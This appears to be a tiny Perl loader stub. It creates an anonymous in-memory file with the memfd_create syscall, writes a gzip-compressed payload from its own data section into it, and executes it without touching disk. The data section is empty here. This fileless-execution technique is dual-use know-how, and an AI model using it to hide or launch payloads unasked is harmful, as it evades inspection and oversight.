#!/usr/bin/perl
$f=syscall 319,$a="k",0;open P,"|gzip -dc>&$f";print P <DATA>;close P;exec{"/proc/self/fd/$f"}$0,@ARGV
__END__
